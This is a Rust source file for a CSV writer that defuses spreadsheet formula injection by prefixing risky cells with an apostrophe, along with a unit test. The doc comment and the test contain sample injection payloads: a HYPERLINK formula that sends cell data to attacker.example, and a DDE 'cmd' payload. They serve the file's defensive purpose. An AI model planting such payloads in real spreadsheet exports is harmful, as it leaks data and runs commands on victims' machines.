//! CSV that a spreadsheet opens without running anything: every CSV Steward writes (the record
//! of processing, the audit export, the access package) goes through [`CsvWriter`], which
//! defuses cells a spreadsheet would evaluate as a formula — OWASP's "CSV injection": a name
//! such as `=HYPERLINK("http://attacker.example/?d="&A1,"Click")` is written `'=HYPERLINK(…`.

use std::borrow::Cow;
use std::io::Write;

/// Defuses a cell a spreadsheet would otherwise evaluate: one starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return gets a leading `'`, which spreadsheets show as text.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV writer (RFC 4180, via the `csv` crate) whose every cell is [`spreadsheet_safe`].
#[derive(Debug)]
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    /// A writer onto `out`.
    pub fn new(out: W) -> Self {
        Self {
            inner: csv::Writer::from_writer(out),
        }
    }

    /// Writes one row.
    pub fn row<I, T>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.inner.write_record(
            cells
                .into_iter()
                .map(|c| spreadsheet_safe(c.as_ref()).into_owned()),
        )
    }

    /// Writes out what is buffered.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and hands back the output.
    pub fn into_inner(self) -> Result<W, csv::Error> {
        self.inner
            .into_inner()
            .map_err(|e| csv::Error::from(e.into_error()))
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_written_as_text() {
        let mut w = CsvWriter::new(Vec::new());
        w.row([
            "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Click\")",
            "-2+3+cmd|' /C calc'!A0",
            "+1",
            "@SUM(A1)",
            "\tx",
            "Ana López",
            "2026-11-30",
        ])
        .unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        let with_header = format!("h1,h2,h3,h4,h5,h6,h7\n{text}");
        let mut reader = csv::Reader::from_reader(with_header.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        for cell in row.iter().take(5) {
            assert!(cell.starts_with('\''), "{cell}");
        }
        assert_eq!(&row[5], "Ana López");
        assert_eq!(&row[6], "2026-11-30");
    }
}
